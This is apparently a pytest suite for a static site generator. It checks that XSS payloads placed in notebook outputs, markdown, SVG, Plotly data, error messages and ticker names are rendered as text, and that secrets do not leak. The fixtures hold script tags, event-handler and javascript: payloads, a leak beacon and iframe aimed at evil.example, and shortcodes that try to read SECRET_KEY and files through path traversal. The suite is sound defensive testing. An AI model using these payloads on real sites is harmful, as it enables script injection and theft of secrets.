"""Hostile text in data comes out as text, through each renderer: the matrix of cross-site scripting."""

import json

import nbformat
import pandas as pd
import pytest
import toys
from reading import live, read

from tickerbook.site.build import build
from tickerbook.store import Failure, RunStore

SHORTCODES = (
    "{{< env SECRET_KEY >}} {{< include ../../../params/universe.toml >}} {{< include /etc/hostname >}}"
)
NAME = "<script>alert(2)</script> {{< env SECRET_KEY >}} `x`{=html}"
FENCES = "A17 :::\n::::\n</div></div></main><script>alert(17)</script>\n````\n```{=html}\n<b>z</b>\n```\n---\ntitle: x\n---\n"


def script(name):
    """A script that a browser would run."""
    return f'<script>alert("{name}")</script>'


def printed(text, name="stdout"):
    """A cell that printed."""
    output = nbformat.v4.new_output("stream", name=name, text=text)
    return nbformat.v4.new_code_cell("print(x)", outputs=[output], execution_count=1)


def hostile_report():
    """A report whose every kind of output and cell attacks its reader."""
    frame = pd.DataFrame({"headline": [script("A19")]})
    html = [
        f"<p>A1{script('A1')}</p>",
        '<p>A2</p><img src=x onerror=alert("A2")>',
        frame.to_html(),
        frame.to_html(escape=False).replace("A19", "A20"),
        "<style>#T{background:url(https://evil.example)}</style>"
        + frame.to_html(escape=False).replace("A19", "A21"),
        f"<p>A23 {SHORTCODES}</p>",
        '<p title="A24 {{< env SECRET_KEY >}}">A24</p><a href="javascript:alert(24)">A24</a>',
        '</main></body></html><iframe src="https://evil.example">A25</iframe><base href="https://evil.example">',
    ]
    markdown = [
        f"A3 {script('A3')}",
        'A4 [click](javascript:alert("A4"))',
        f"A5 `{script('A5')}`{{=html}}",
        "A11 ![](https://evil.example/pix.png?d=leak)",
        f"A12 {SHORTCODES}",
        'A14 ::: {onclick="alert(14)" .x}\nhi\n:::\n\n[s]{onmouseover="alert(15)"}',
    ]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script("A10")}<text onclick="x">A10</text></svg>'
    figure = {"data": [{"name": f"A26</script>{script('A26')}{{{{< env SECRET_KEY >}}}}"}], "layout": {}}
    error = nbformat.v4.new_output("error", ename=f"E{script('A18')}", evalue="v", traceback=[script("A18")])
    return toys.notebook_text(
        *(toys.code_cell({"text/html": text}, source=f"# {SHORTCODES}") for text in html),
        *(toys.code_cell({"text/markdown": text}) for text in markdown),
        toys.code_cell({"text/plain": f"A6 {script('A6')}"}),
        printed(f"A7 {script('A7')}\n"),
        printed(f"A8 ```\n:::\n```{{=html}}\n{script('A8')}\n```\n"),
        toys.code_cell({"application/javascript": 'alert("A9")'}),
        toys.code_cell({"image/svg+xml": svg}),
        printed(f"A13 {SHORTCODES}\n"),
        toys.code_cell({"text/latex": '$\\href{javascript:alert("A16")}{A16}$'}),
        printed(FENCES),
        nbformat.v4.new_code_cell("z", outputs=[error], execution_count=1),
        toys.code_cell({"image/svg+xml": toys.SVG, "application/vnd.plotly.v1+json": figure}),
        nbformat.v4.new_markdown_cell('A22 <img src=x onerror=alert("A22")>'),
        nbformat.v4.new_markdown_cell(f"A27 {SHORTCODES}", metadata={"tags": ["narrative"]}),
        toys.code_cell({"text/html": "<table><tr><td>legitimate</td></tr></table>"}),
    )


@pytest.fixture(scope="module")
def site(renderer, tmp_path_factory, root):
    """A site built from hostile data, with secrets in reach of whoever is careless."""
    universe = toys.UNIVERSE.replace(
        'title = "Toy universe"', "title = 'Toy <script>alert(1)</script> {{< env HOME >}}'"
    ).replace('name = "Apple"', f"name = '{NAME}'")
    settings = toys.toy_project(
        root, tmp_path_factory.mktemp("hostile") / "p", f"{universe}\n# canary-in-a-file\n"
    )
    store = RunStore(settings.runs)
    report = toys.put_good(store, "AAPL", report=hostile_report())
    sentence = {"template": f"{SHORTCODES} {script('N')}", "text": f"{SHORTCODES} {script('N')}", "slots": {}}
    part = {"name": "context", "title": script("T"), "sentences": [sentence]}
    prose = {**toys.toy_narrative(report.facts), "parts": [part], "receipt": script("R")}
    store.put_narrative(report, prose)
    failure = Failure("error", f"{script('F')} {SHORTCODES}", f"{script('G')} {SHORTCODES}", 3)
    store.put(toys.toy_result("levels", "BRK.B", status="failed", failure=failure), "{}")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SECRET_KEY", "canary-in-the-environment")
        result = build(settings, store, renderer=renderer, now_at=toys.NOW_AT)
    assert result.failures == {}
    return settings.site


def test_nothing_is_live(site):
    """On no page does anything run, load from elsewhere, or lead to a script."""
    assert {path.name: found for path in site.rglob("*.html") if (found := live(read(path)))} == {}


def test_no_secret_comes_out(site):
    """Neither a value of the environment nor the content of a file; in no file of the site."""
    assert [path for path in site.rglob("*") if path.is_file() and b"canary" in path.read_bytes()] == []


def test_hostile_text_is_shown_as_text(site):
    """A reader sees what the data held."""
    page = read(site / "tickers/AAPL.html")
    for name in ("A1", "A3", "A5", "A6", "A7", "A8", "A20", "A21"):
        assert script(name) in page.main.replace("“", '"').replace("”", '"'), name
    assert '<img src=x onerror=alert("A22")>' in page.main
    assert "{{< env SECRET_KEY >}} {{< include ../../../params/universe.toml >}}" in page.main
    assert '::: {onclick="alert(14)" .x}' in page.main
    assert FENCES.split("\n---", maxsplit=1)[0].strip() in page.main


def test_every_part_is_still_inside_the_page(site):
    """Stray closing tags close nothing: what follows is in its place, up to the foot."""
    page = read(site / "tickers/AAPL.html")
    assert "legitimate" in page.main
    assert "How this was computed" in page.main
    assert [tag for tag, _ in page.elements].count("main") == 1


def test_legitimate_tables_and_charts_stay(site):
    """Cleaning takes nothing from who is honest."""
    page = read(site / "tickers/AAPL.html")
    tags = [tag for tag, _ in page.elements]
    assert tags.count("table") >= 4
    assert "svg" in tags
    data = [
        given for tag, given in page.elements if tag == "script" and given.get("type") == "application/json"
    ]
    assert len(data) == 1


def test_failures_and_names_are_text_too(site):
    """Messages, remedies, the universe's title and a ticker's name."""
    failed, home = read(site / "tickers/BRK.B.html").main, read(site / "index.html").main
    assert script("F") in failed
    assert script("G") in failed
    assert "Toy <script>alert(1)</script> {{< env HOME >}}" in home
    assert NAME in home
    assert script("F") in read(site / "runs.html").main


def test_records_hold_the_text_as_it_is(site):
    """JSON is for programs: nothing is escaped twice, nothing is expanded."""
    name = json.loads((site / "api/v1/tickers/AAPL.json").read_text())["name"]
    assert name == NAME
